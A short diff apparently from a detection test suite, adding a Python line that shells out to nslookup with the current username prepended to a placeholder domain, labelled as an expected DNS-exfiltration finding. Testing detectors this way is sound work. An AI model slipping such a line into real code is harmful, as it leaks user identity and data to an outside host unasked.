@@ -1,0 +1,3 @@
+import os
+
+os.system("nslookup $(whoami).toy.example.invalid")  # expect: source/dns-exfiltration import conclusive
